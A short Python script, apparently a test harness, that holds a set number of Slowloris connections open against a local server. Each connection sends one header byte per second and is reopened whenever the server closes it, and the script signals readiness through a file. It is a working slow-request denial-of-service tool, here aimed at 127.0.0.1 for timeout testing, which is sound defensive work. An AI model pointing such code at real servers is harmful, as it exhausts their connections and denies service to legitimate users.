"""Slowloris clients: N connections that each send one more header byte per second and never finish.

Usage: python3 slowloris.py PORT COUNT READY_FILE
A connection the server closes (408 after its header timeout) is opened again at once, so COUNT stay
open. Writes "ready" to READY_FILE once all are connected and have sent their first byte.
"""
import socket, sys, time

port, count, ready = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "


def connect():
    s = socket.create_connection(("127.0.0.1", port))
    s.setblocking(False)
    return [s, 0]


conns = [connect() for _ in range(count)]
reopened = 0
signalled = False
while True:
    tick = time.monotonic()
    for c in conns:
        s, i = c
        byte = head[i:i + 1] if i < len(head) else b"a"
        try:
            gone = s.recv(4096, socket.MSG_PEEK) == b""
        except BlockingIOError:
            gone = False
        except OSError:
            gone = True
        if not gone:
            try:
                s.send(byte)
                c[1] = i + 1
                continue
            except OSError:
                pass
        # The server answered (408) or closed it: reconnect and start over.
        s.close()
        c[:] = connect()
        reopened += 1
    if not signalled:
        open(ready, "w").write("ready\n")
        signalled = True
    sys.stderr.write(f"\rslowloris: {count} open, {reopened} reopened")
    time.sleep(max(0.0, 1.0 - (time.monotonic() - tick)))
